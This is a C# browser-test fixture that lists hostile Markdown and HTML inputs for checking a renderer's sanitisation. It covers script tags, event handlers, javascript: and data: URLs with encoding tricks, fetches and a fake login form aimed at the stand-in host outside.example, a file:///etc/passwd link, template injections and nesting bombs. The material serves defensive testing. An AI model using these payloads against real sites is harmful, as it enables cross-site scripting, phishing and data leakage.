namespace VikLearning.BrowserTests;

/// <summary>
/// Texts that try to run a script, to fetch something from elsewhere, or to put on a page what is not theirs. Each that
/// could run would call <c>ran()</c>; each that could fetch would go to <c>outside.example</c>.
/// </summary>
internal static class HostileMarkdown
{
    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Scripts, .. Handlers, .. Addresses, .. Pictures, .. Pieces, .. Styles, .. Signs, .. Bombs];

    private static string[] Scripts =>
    [
        "<script>ran()</script>", "<SCRIPT SRC=//outside.example/x.js></SCRIPT>", "<script\n>ran()</script\n>",
        "<scr<script>ipt>ran()</scr</script>ipt>", "\n<script>\nran()\n</script>\n\ntekst",
        "<script type=module>import('//outside.example/m.js')</script>", "text <script>ran()</script> text",
        "- <script>ran()</script>", "> <script>ran()</script>", "# <script>ran()</script>",
        "`<script>ran()</script>`", "```\n</code></pre><script>ran()</script>\n```",
        "    </code><script>ran()</script>",
        "<noscript><p title=\"</noscript><script>ran()</script>\">", "<!--><script>ran()</script>-->",
        "<?xml version=\"1.0\"?><script>ran()</script>", "<![CDATA[<script>ran()</script>]]>",
        "</div></main><script>ran()</script>",
    ];

    private static string[] Handlers =>
    [
        "<img src=x onerror=ran()>", "<svg onload=ran()>", "<svg/onload=ran()//", "<body onload=ran()>",
        "<details open ontoggle=ran()>", "<input autofocus onfocus=ran()>", "<video><source onerror=ran()></video>",
        "<a href=x onmouseover=ran()>hier</a>", "<p onclick=ran()>klik</p>", "<marquee onstart=ran()>",
        "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<object data=\"javascript:ran()\"></object>",
        "[x](https://a.example \"x\" onmouseover=\"ran()\")", "[x](https://a.example/\" onmouseover=\"ran())",
        "![x](y \"z\" onerror=\"ran())", "```js\" onmouseover=\"ran()\nx\n```", "```x onmouseover=ran()\nx\n```",
    ];

    private static string[] Addresses =>
    [
        "[x](javascript:ran())", "[x](JaVaScRiPt:ran())", "[x](java\nscript:ran())", "[x](java\tscript:ran())",
        "[x](javascript&colon;ran())", "[x](javascript&#58;ran())", "[x](&#106;avascript:ran())",
        "[x](&#x6A&#x61&#x76&#x61script:ran())", "[x]( javascript:ran())",
        "[x](<javascript:ran()>)", "<javascript:ran()>", "[x](vbscript:ran())", "[x](livescript:ran())",
        "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)", "[x](data:text/html,<script>ran()</script>)",
        "<data:text/html,<script>ran()</script>>", "[x](view-source:https://outside.example)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://outside.example/1)", "[x](filesystem:https://outside.example/1)", "[x](//outside.example)",
        "[x](\\\\outside.example)", "[x](/portal/sign-out)", "[x](?bewaard=1)", "[x](#content)",
        "[x](https://politie.example@outside.example/)", "[x](https:\\\\outside.example)", "[x](http:outside)",
        "[x][y]\n\n[y]: javascript:ran()", "[y]\n\n[y]: <javascript:ran()> \"titel\"",
        "[x][y]\n\n[y]: data:text/html,x",
        "[x](https://a.example\" rel=\"opener)", "[x](javascript://a.example/%0aran())", "[x](feed:javascript:ran())",
        "[x](javascript%3Aran())", "[x](\u2028javascript:ran())", "[x](jav\u00ADascript:ran())",
    ];

    private static string[] Pictures =>
    [
        "![x](https://outside.example/p.png)", "![x](//outside.example/p.png)",
        "![x][y]\n\n[y]: https://outside.example/p.png",
        "[![x](https://outside.example/p.png)](https://a.example)", "![x](data:image/svg+xml,<svg onload=ran()>)",
        "![![x](https://outside.example/a.png)](https://outside.example/b.png)", "![x](javascript:ran())",
        "<img src=https://outside.example/p.png>", "<picture><source srcset=//outside.example/p.png></picture>",
        "<svg><image href=https://outside.example/p.png /></svg>", "<video poster=//outside.example/p.png></video>",
        "<audio src=//outside.example/a.mp3 autoplay></audio>",
    ];

    private static string[] Pieces =>
    [
        "<iframe src=https://outside.example></iframe>", "<embed src=https://outside.example>",
        "<link rel=stylesheet href=//outside.example/s.css>",
        "<meta http-equiv=refresh content=0;url=//outside.example>",
        "<base href=//outside.example/>",
        "<form action=//outside.example><input name=p><button>Log in</button></form>",
        "<template><script>ran()</script></template>", "<math><mtext><script>ran()</script></mtext></math>",
        "<div id=content class=summary>nep</div>", "<textarea></textarea><script>ran()</script>",
        "</article></body></html>",
        "<frameset><frame src=//outside.example></frameset>", "<dialog open>nep</dialog>",
        "<portal src=//outside.example>",
        "{{constructor.constructor('ran()')()}}", "${ran()}", "<%= ran() %>", "@(new Func<int>(() => 1)())",
        "{: onclick=ran()}", "# kop {#content .summary onclick=ran()}", "::: {onclick=ran()}\nx\n:::",
        "[^1]\n\n[^1]: <svg onload=ran()>",
    ];

    private static string[] Styles =>
    [
        "<style>@import '//outside.example/s.css'; body{display:none}</style>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<p style=\"background:url(//outside.example/b.png)\">x</p>", "<div class=\"bar\">x</div>",
        "```\" style=\"position:fixed\nx\n```", "*{background:url(https://outside.example)}*",
    ];

    private static string[] Signs =>
    [
        "\uFF1Cscript\uFF1Eran()\uFF1C/script\uFF1E", "\u202Etxet\u202C <b>x</b>",
        "&lt;script&gt;ran()&lt;/script&gt;",
        "&#60;script&#62;ran()&#60;/script&#62;", "&amp;lt;img src=x onerror=ran()&amp;gt;",
        "+ADw-script+AD4-ran()+ADw-/script+AD4-",
        "\uFEFF<script>ran()</script>", "<\u200Bscript>ran()</script>", "&NewLine;&Tab;<svg onload=ran()>",
        "\u00BCscript\u00BEran()",
        "<https://outside.example/?q=\"onmouseover=ran()>", "<mailto:a@b.example?subject=\"onclick=ran()>",
        "a@b.example\"onclick=ran()",
    ];

    private static string[] Bombs =>
    [
        new string('[', 5_000), new string('>', 5_000) + " x", string.Concat(Enumerable.Repeat("- ", 3_000)) + "x",
        string.Concat(Enumerable.Repeat("![", 4_000)), string.Concat(Enumerable.Repeat("*a **a ", 2_000)),
        new string('`', 9_999) + "x", string.Concat(Enumerable.Repeat("[a](", 3_000)), new string('(', 8_000),
        string.Concat(Enumerable.Repeat("&#0;&#xFFFFFFFF;", 500)), string.Concat(Enumerable.Repeat("<a", 5_000)),
        string.Concat(Enumerable.Repeat("1. ", 3_000)) + "x", string.Concat(Enumerable.Repeat("[x]: /y\n", 1_500)),
    ];
}
